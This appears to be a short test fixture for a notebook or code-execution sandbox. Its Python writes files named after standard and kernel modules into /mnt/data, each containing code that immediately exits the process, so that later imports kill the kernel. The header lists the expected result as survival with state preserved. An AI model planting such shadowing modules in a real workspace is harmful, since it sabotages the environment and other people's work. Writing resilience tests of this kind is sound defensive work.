# attack: leave modules in the workspace that shadow those the kernel imports later
# must end: completed
# state: preserved
# then: survivor == 59
survivor = 59
for name in ("json", "struct", "traceback", "socket", "IPython", "matplotlib", "encodings", "sitecustomize", "usercustomize", "ast", "linecache", "kernel"):
    with open(f"/mnt/data/{name}.py", "w") as file:
        file.write("import os\nos._exit(66)\n")
print("held")
